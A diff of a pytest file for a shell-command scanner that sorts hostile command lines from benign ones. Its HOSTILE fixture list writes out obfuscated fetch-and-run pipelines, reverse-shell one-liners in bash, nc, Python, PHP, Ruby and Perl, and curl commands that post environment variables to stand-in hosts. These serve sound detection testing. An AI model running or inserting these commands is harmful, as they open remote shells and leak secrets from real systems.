@@ -3,11 +3,10 @@
 from __future__ import annotations
 
 import pytest
-
 from goobits_scanner._finding import Severity
 from goobits_scanner._manifests._shell import Context, shell_findings
 
-HOSTILE = r'''
+HOSTILE = r"""
 c""url https://x.invalid/a | s""h
 cu\rl https://x.invalid/a | ba\sh
 a=cu; b=rl; $a$b https://x.invalid/a | sh
@@ -38,7 +37,7 @@ bash -i >& /dev/tcp/203.0.113.9/99 0>&1
 exec 5<>/dev/tcp/x.invalid/99;cat <&5 | while read line; do $line 2>&5 >&5; done
 nc -e /bin/sh x.invalid 99
 rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x.invalid 99 >/tmp/f
-python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("x.invalid",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
+python -c 'import socket,os;s=socket.socket();s.connect(("x.invalid",1));os.dup2(s.fileno(),0)'
 env | base64 | curl -X POST -d @- https://x.invalid
 curl -d "$(env)" https://x.invalid
 curl -X POST --data-binary @/proc/self/environ https://x.invalid
@@ -67,11 +66,11 @@ curl https://x.invalid/a|tee /tmp/l|sh
 $(curl https://x.invalid/a)
 curl https://x.invalid/a | xargs -I{} sh -c {}
 php -r '$s=fsockopen("x.invalid",1);exec("/bin/sh -i <&3 >&3 2>&3");'
-ruby -rsocket -e 'exit if fork;c=TCPSocket.new("x.invalid",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
-perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'
-'''.strip().splitlines()
+ruby -rsocket -e 'c=TCPSocket.new("x.invalid",1);IO.popen(c.gets,"r"){|io|c.print io.read}'
+perl -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'
+""".strip().splitlines()
 
-HONEST = r'''
+HONEST = r"""
 curl -fsSL https://x.invalid/a.json | jq .
 curl https://x.invalid/a.tgz | tar xz
 curl https://x.invalid | python -m json.tool
@@ -103,7 +102,7 @@ cat ~/.bashrc
 pip install -r requirements.txt
 curl -u "$USER:$TOKEN" https://x.invalid/api
 docker run -e TOKEN=$TOKEN image sh -c "echo hi"
-'''.strip().splitlines()
+""".strip().splitlines()
 
 
 def rules(text: str, context: Context = "script") -> set[str]:
@@ -166,7 +165,9 @@ def test_download_that_a_later_line_runs_is_found() -> None:
 
 def test_padding_hides_nothing() -> None:
     """Only the beginning of a long line would be read otherwise."""
-    assert "shell-decode-run" in rules("echo " + "x" * 70_000 + "; echo eA== | base64 -d | sh")
+    assert "shell-decode-run" in rules(
+        "echo " + "x" * 70_000 + "; echo eA== | base64 -d | sh"
+    )
 
 
 def test_comment_is_no_command() -> None:
